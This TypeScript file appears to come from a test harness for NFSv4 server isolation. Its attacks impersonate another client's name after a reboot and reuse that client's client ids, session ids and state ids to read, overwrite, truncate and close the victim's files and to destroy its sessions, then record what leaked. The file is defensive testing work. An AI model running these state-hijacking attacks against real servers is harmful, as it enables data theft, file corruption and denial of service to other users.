/**
 * Attacks on what a server keeps for its clients: ids of clients, sessions and open files, which a client with a guess or a
 * packet dump knows. They go to the victim's server, whichever that is: a network lets anybody connect.
 */
import { randomBytes, randomUUID } from 'node:crypto'
import {
  close,
  confirmClientId,
  getFh,
  lookup,
  open,
  putFh,
  read,
  renew,
  setAttributes,
  setClientId,
  write,
} from '../nfs4/operations.ts'
import { NfsError } from '../nfs4/nfs-error.ts'
import { needed, openRaw, type RawNfs } from '../nfs4/raw.ts'
import {
  bindConnection,
  createSession,
  destroyClientId,
  destroySession,
  exchangeId,
  freeStateId,
  openIn,
  reclaimComplete,
  sequence,
  testStateIds,
} from '../nfs4/raw-operations.ts'
import { clientOf, openFile, wayTo } from './holding.ts'
import { bytesOfOthers } from './judge.ts'
import type { Operation } from '../nfs4/operations.ts'
import type { RawReply } from '../nfs4/raw.ts'
import type { NfsAttack, Outcome } from './attack.ts'
import type { Field } from './field.ts'

interface Run {
  readonly answers: readonly string[]
  readonly wrong: readonly string[]
  /** What the exporter says is left open. */
  readonly open: readonly string[]
  readonly tried: number
}

/** A client of the victim with the secret open, in one of the versions. */
interface Holder {
  readonly raw: RawNfs
  readonly handle: Buffer
  readonly stateId: Buffer
}

async function holder(field: Field, minor: 0 | 1, owner: string = `victim-${randomUUID()}`): Promise<Holder> {
  const { hostile, victim } = field
  const raw = await clientOf(hostile, victim.location, victim.client, minor, owner)
  const root = needed(await raw.compound([...wayTo(hostile, victim.location), getFh]), getFh)
  if (minor === 0) {
    const { handle, stateId } = await openFile(raw, root, victim.secret.file, 'read')
    return { raw, handle, stateId }
  }
  const ask = openIn('holder', victim.secret.file, 'read')
  const reply = await raw.compound([putFh(root), ask, getFh])
  return { raw, handle: needed(reply, getFh), stateId: needed(reply, ask) }
}

/** Whether the victim's open file goes on: how it does not, or null. */
async function goesOn(field: Field, { raw, handle, stateId }: Holder): Promise<string | null> {
  const get = read(stateId, 0, 4096)
  try {
    const reply = await raw.compound([putFh(handle), get])
    const bytes = reply.of(get)?.bytes
    if (bytes === undefined) return `the victim's open file in 4.${raw.minor} ended: ${reply.status}`
    return bytesOfOthers(field, bytes) === null ? 'the victim reads something else' : null
  } catch (error) {
    return `the victim's connection in 4.${raw.minor}: ${(error as Error).message}`
  }
}

/**
 * What the victim's client is left with. In 4.1 whoever may speak to a server can end sessions of others, as far as AUTH_SYS
 * goes: clients then make a new one and go on, and that is asked here.
 */
async function standing(field: Field, held: Holder): Promise<{ wrong: string[]; open: string[] }> {
  const ended = await goesOn(field, held)
  if (ended === null) return { wrong: [], open: [] }
  if (held.raw.minor === 0) return { wrong: [ended], open: [] }
  const again = await holder(field, 1, held.raw.owner)
  const still = await goesOn(field, again)
  await again.raw.close()
  return still === null
    ? { wrong: [], open: [`${ended}; with a new session it goes on`] }
    : { wrong: [ended, still], open: [] }
}

/** Tries each way on a connection of its own, since some end it; then looks after the victim. */
async function against(
  field: Field,
  minor: 0 | 1,
  ways: (held: Holder, raw: RawNfs) => readonly (readonly Operation<unknown>[])[],
  introduced: boolean,
): Promise<Run> {
  const { host, port } = field.hostile.reach(field.victim.location)
  const from = field.hostile.clients.attacker
  const held = await holder(field, minor)
  const answers: string[] = []
  const wrong: string[] = []
  let tried = 0
  const raw = await openRaw({ host, port, from, minor })
  try {
    if (introduced) await raw.introduce()
    for (const way of ways(held, raw)) {
      tried++
      const alone =
        minor === 1 &&
        [
          'SEQUENCE',
          'EXCHANGE_ID',
          'DESTROY_SESSION',
          'DESTROY_CLIENTID',
          'BIND_CONN_TO_SESSION',
          'CREATE_SESSION',
        ].includes(way[0]?.name ?? '')
      const reply = await (alone ? raw.send(way) : raw.compound(way)).catch(broken)
      answers.push(
        `${way.map(({ name }) => name).join('+')} ${reply?.status.replace('NFS4ERR_', '') ?? 'no answer'}`,
      )
      const leaked = reply === null ? null : leakIn(field, reply, way)
      if (leaked !== null) wrong.push(leaked)
    }
    const left = await standing(field, held)
    return { answers, wrong: [...wrong, ...left.wrong], open: left.open, tried }
  } finally {
    await raw.close()
    await held.raw.close()
  }
}

const broken = (error: unknown): null => {
  if (error instanceof NfsError) return null
  throw error
}

function leakIn(field: Field, reply: RawReply, way: readonly Operation<unknown>[]): string | null {
  for (const operation of way) {
    const value = reply.of(operation) as { bytes?: Buffer } | undefined
    if (value?.bytes instanceof Buffer) return bytesOfOthers(field, value.bytes)
  }
  return null
}

async function outcome(field: Field, runs: readonly Run[]): Promise<Outcome> {
  const harm = await field.harm()
  const wrong = [...runs.flatMap((run) => run.wrong), ...(harm === null ? [] : [harm])]
  const answers = new Map<string, number>()
  for (const answer of runs.flatMap((run) => run.answers)) answers.set(answer, (answers.get(answer) ?? 0) + 1)
  const open = runs.flatMap((run) => run.open)
  return {
    through: wrong.length > 0,
    leftOpen: wrong.length === 0 && open.length > 0,
    tried: `${runs.reduce((sum, { tried }) => sum + tried, 0)} calls in 4.0 and 4.1`,
    cameBack: [
      [...answers].map(([answer, times]) => (times > 1 ? `${times} × ${answer}` : answer)).join(', '),
      ...(wrong.length > 0 ? wrong : open),
    ].join('; '),
  }
}

/** Comes as the victim's client after a reboot: its name, another verifier. */
async function rebooted(field: Field, minor: 0 | 1): Promise<Run> {
  const { host, port } = field.hostile.reach(field.victim.location)
  const held = await holder(field, minor)
  const raw = await openRaw({ host, port, from: field.hostile.clients.attacker, minor })
  const answers: string[] = []
  const say = (what: string, { status }: RawReply) =>
    answers.push(`${what} ${status.replace('NFS4ERR_', '')}`)
  try {
    if (minor === 0) {
      const ask = setClientId(randomBytes(8), held.raw.owner)
      const reply = await raw.send([ask])
      say('SETCLIENTID', reply)
      const identity = reply.of(ask)
      if (identity !== undefined) say('SETCLIENTID_CONFIRM', await raw.send([confirmClientId(identity)]))
    } else {
      const ask = exchangeId(randomBytes(8), held.raw.owner)
      const reply = await raw.send([ask])
      say('EXCHANGE_ID', reply)
      const introduced = reply.of(ask)
      if (introduced !== undefined) say('CREATE_SESSION', await raw.send([createSession(introduced, 4)]))
    }
    return { answers, ...(await standing(field, held)), tried: answers.length }
  } finally {
    await raw.close()
    await held.raw.close()
  }
}

export const stateAttacks: readonly NfsAttack[] = [
  {
    name: "others' client names",
    tries: "makes itself known under the name of another project's client, as if that had rebooted",
    async run(field) {
      return outcome(field, [await rebooted(field, 0), await rebooted(field, 1)])
    },
  },
  {
    name: "others' client ids and open files in 4.0",
    tries:
      "opens, renews, reads, writes and closes with a client id and a state id of another project's client",
    async run(field) {
      const number = field.mine.handles[1]?.bytes ?? Buffer.alloc(0)
      const run = await against(
        field,
        0,
        ({ raw: victim, handle, stateId }) => {
          const ask = { clientId: victim.clientId, owner: 'holder', name: field.victim.secret.file } as const
          const root = field.victim.handles[0]?.bytes ?? Buffer.alloc(0)
          return [
            [renew(victim.clientId)],
            [putFh(handle), read(stateId, 0, 4096)],
            [putFh(number), read(stateId, 0, 4096)],
            [putFh(root), lookup(field.victim.secret.file), read(stateId, 0, 4096)],
            [putFh(handle), write(stateId, 0, Buffer.from('overwritten'))],
            [putFh(number), write(stateId, 0, Buffer.from('overwritten'))],
            [putFh(handle), setAttributes({ size: 0 })],
            [putFh(root), open({ ...ask, sequence: 0, access: 'read', create: null }), getFh],
            [putFh(handle), close(stateId, 2)],
            [putFh(number), close(stateId, 2)],
          ]
        },
        true,
      )
      return outcome(field, [run])
    },
  },
  {
    name: "others' sessions and open files in 4.1",
    tries:
      "uses, binds and destroys the session, the client id and the open file of another project's client",
    async run(field) {
      const use = await against(
        field,
        1,
        ({ raw: victim, handle, stateId }) => [
          [sequence(victim.sessionId, 1, 1, 1), putFh(handle), read(stateId, 0, 4096)],
          [sequence(victim.sessionId, 2, 1, 2), putFh(handle), close(stateId, 0)],
          [bindConnection(victim.sessionId)],
          [createSession({ clientId: victim.clientId, sequence: 2 }, 4)],
          [destroyClientId(victim.clientId)],
          [destroySession(victim.sessionId)],
        ],
        false,
      )
      const mix = await against(
        field,
        1,
        ({ handle, stateId }) => [
          [putFh(handle), read(stateId, 0, 4096)],
          [putFh(field.mine.handles[1]?.bytes ?? handle), read(stateId, 0, 4096)],
          [putFh(handle), close(stateId, 0)],
          [putFh(field.mine.handles[1]?.bytes ?? handle), close(stateId, 0)],
          [testStateIds([stateId])],
          [freeStateId(stateId)],
          [reclaimComplete],
        ],
        true,
      )
      return outcome(field, [use, mix])
    },
  },
]
